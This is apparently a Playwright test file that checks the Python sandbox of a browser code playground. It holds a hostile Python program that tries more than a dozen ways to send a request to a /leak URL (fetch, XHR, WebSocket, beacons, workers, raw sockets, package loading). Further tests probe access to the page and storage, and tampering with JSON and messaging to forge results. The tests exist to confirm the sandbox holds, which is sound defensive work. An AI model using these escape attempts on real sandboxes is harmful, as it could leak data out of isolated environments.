/** What a hostile Python program may try through the language of the page, and through Python itself. */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { open, printed, ready, runProgram, useSite, write } from "./browser";

const site = useSite();
const choice = (page: Page, name: string) => page.locator(".switch-choice", { hasText: name });

test("A1, A2: no request leaves the sandbox from Python, to anywhere, by any means", async () => {
  const { page, context } = await open(site());
  await choice(page, "Python").click();
  await ready(page);
  const before = site().requests.length;
  for (const target of [site().elsewhere, new URL(site().url).origin]) {
    await runProgram(page, hostile(`${target}/leak`));
    const found = await printed(page);
    assert.match(found, /open_url=(threw|nothing)/);
    assert.doesNotMatch(found, /=reached/);
    await page.waitForTimeout(600);
  }
  assert.deepEqual(site().hits, []);
  assert.deepEqual(site().requests.slice(before), []);
  await context.close();
});

const hostile = (url: string) => `import js
from pyodide.ffi import create_proxy
from js import Object

URL = "${url}"

def attempt(name, action):
    try:
        result = action()
    except BaseException as error:
        result = "threw"
    print(f"{name}={'reached' if result == 'reached' else 'nothing' if result != 'threw' else result}")

def fetch():
    js.fetch(URL).catch(lambda *_: None)

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", URL, False)
    request.send()
    return "reached"

def socket():
    js.WebSocket.new(URL.replace("http", "ws"))

def events():
    js.EventSource.new(URL)

def scripts():
    js.importScripts(URL)
    return "reached"

def imported():
    js.eval("import")(URL)

def dynamic():
    js.Function.new("url", "return import(url).catch(() => 0)")(URL)

def worker():
    code = f"fetch('{URL}').catch(() => 0); try {{ importScripts('{URL}') }} catch {{}}"
    blob = js.Blob.new([code])
    js.Worker.new(js.URL.createObjectURL(blob))

def beacon():
    js.navigator.sendBeacon(URL, "x")

def open_url():
    from pyodide.http import open_url
    open_url(URL)
    return "reached"

def urllib():
    import urllib.request
    urllib.request.urlopen(URL, timeout=1).read()
    return "reached"

def raw():
    import socket
    from urllib.parse import urlsplit
    connection = socket.create_connection(urlsplit(URL).netloc.split(":"), timeout=1)
    connection.send(b"GET /leak HTTP/1.0\\r\\n\\r\\n")

def package():
    import pyodide_js
    pyodide_js.loadPackage(URL).catch(lambda *_: None)

for action in [fetch, xhr, socket, events, scripts, imported, dynamic, worker, beacon, open_url, urllib, raw, package]:
    attempt(action.__name__, action)
`;

test("A3: Python does not reach the page, its storage or its frames", async () => {
  const { page, context } = await open(site());
  await choice(page, "Python").click();
  await ready(page);
  await runProgram(
    page,
    `import js
for name in ["window", "document", "parent", "top", "localStorage", "sessionStorage", "RTCPeerConnection", "SharedWorker"]:
    print(name, getattr(js, name, None) is None)
print(js.location.origin)
`,
  );
  assert.equal(
    await printed(page),
    `window True
document True
parent True
top True
localStorage True
sessionStorage True
RTCPeerConnection True
SharedWorker True
null`,
  );
  await context.close();
});

test("what one program leaves running is gone when another is opened", async () => {
  const { page, context } = await open(site());
  await choice(page, "Python").click();
  await ready(page);
  const spy = `import js, sys
sys.spied = True
js.Function.new("JSON.parse = () => null; setInterval(() => 0, 1)")()
print("in")
`;
  await runProgram(page, spy);
  await page.getByRole("button", { name: "Examples" }).click();
  await page.locator(".menu-item", { hasText: "Start empty" }).click();
  await runProgram(page, "import sys\nprint(hasattr(sys, 'spied'))\n");
  assert.equal(await printed(page), "False");
  await context.close();
});

test("A7: a Python program that spoils what the worker uses harms itself alone", async () => {
  const { page, context } = await open(site());
  await choice(page, "Python").click();
  await ready(page);
  await write(
    page,
    `import js
js.Function.new("""
  JSON.stringify = () => "forged"; JSON.parse = () => ({ class: "forged" });
  MessagePort.prototype.postMessage = () => 0;
  Promise.prototype.then = function () { return this; };
  self.postMessage({ kind: "done", report: { ok: true, result: "forged" } });
""")()
`,
  );
  await page.keyboard.press("Control+Enter");
  await page.waitForTimeout(500);
  const stop = page.getByRole("button", { name: "Stop" });
  if (await stop.isVisible()) await stop.click();
  await page.getByRole("button", { name: "Examples" }).click();
  await page.locator(".menu-item", { hasText: "Start empty" }).click();
  await runProgram(page, "print('fine')\n");
  assert.equal(await printed(page), "fine");
  await context.close();
});
